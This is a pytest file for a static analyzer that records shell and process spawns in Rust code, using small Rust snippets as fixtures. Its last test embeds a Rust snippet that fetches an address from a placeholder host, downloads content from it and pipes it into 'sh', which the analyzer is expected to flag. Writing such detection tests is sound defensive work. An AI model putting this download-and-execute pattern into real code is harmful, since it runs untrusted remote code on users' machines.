"""What one call is given on each side of a condition: every side is a fact of its own."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest

from analyzer.model import Fact, FactKind, Report

FactsOf = Callable[..., list[Fact]]
ReportOf = Callable[[Mapping[str, str]], Report]

CHOICES = {
    "in the argument": """
        Command::new(if cfg!(windows) { "cmd" } else { "sh" }).args(["-c", "id"]).spawn();""",
    "in a local": """
        let (name, flag) = if cfg!(windows) { ("cmd", "/C") } else { ("sh", "-c") };
        Command::new(name).arg(flag).arg(if cfg!(windows) { "dir" } else { "id" }).spawn();""",
    "in a match": """
        let shell = match std::env::consts::OS { "windows" => "cmd", "macos" => "zsh", _ => "sh" };
        Command::new(shell).arg("-c").arg("id").status();""",
    "in a helper": """
        fn shell() -> &'static str { if cfg!(windows) { "cmd" } else { "sh" } }
        Command::new(shell()).args(["-c", "id"]).output();""",
    "in what a helper is handed": """
        fn run(program: &str) { Command::new(program).args(["-c", "id"]).output(); }
        run(if cfg!(windows) { "cmd" } else { "sh" });""",
    "arguments later": """
        let mut tool = Command::new(if cfg!(windows) { "cmd" } else { "sh" });
        tool.arg(if cfg!(windows) { "/C" } else { "-c" });
        tool.arg("id");
        tool.spawn();""",
}


@pytest.mark.parametrize("code", CHOICES.values(), ids=CHOICES)
def test_every_branch_of_an_argument_is_a_fact(code: str, facts_of: FactsOf) -> None:
    facts = facts_of(f"use std::process::Command; pub fn f() {{ {code} }}", "src/lib.rs")
    shells = [one for one in facts if one.kind is FactKind.PROCESS_SHELL and one.subject == "id"]
    assert any(one.api == "program:sh" for one in shells), facts


def test_sides_are_not_mixed(facts_of: FactsOf) -> None:
    code = """use std::process::Command;
        pub fn f() {
            let (program, file) = if cfg!(windows) { ("cmd", "a.bat") } else { ("sh", "a.sh") };
            Command::new(program).arg(file).spawn();
        }"""
    spawned = [
        (one.subject, one.data)
        for one in facts_of(code, "src/lib.rs")
        if one.kind is FactKind.PROCESS_SPAWN and one.api.startswith("std::")
    ]
    assert spawned == [("cmd", ("a.bat",)), ("sh", ("a.sh",))]


def test_an_address_out_of_an_answer_hands_on_what_it_was_asked_by(report_of: ReportOf) -> None:
    code = """use std::io::Write;
        use std::process::{Command, Stdio};
        fn place() -> String {
            let page = ureq::get("https://notes.invalid/p").call().unwrap();
            page.into_string().unwrap().lines().next().unwrap().to_string()
        }
        pub fn follow() {
            let text = ureq::get(&place()).call().unwrap().into_string().unwrap();
            let mut child = Command::new("sh").stdin(Stdio::piped()).spawn().unwrap();
            child.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
        }"""
    manifest = '[package]\nname = "sample-crate"\nversion = "0.1.0"\n[dependencies]\nureq = "2"'
    report = report_of({"src/lib.rs": code, "Cargo.toml": manifest})
    assert "shell-fed-from-fixed-host" in {one.rule for one in report.findings}
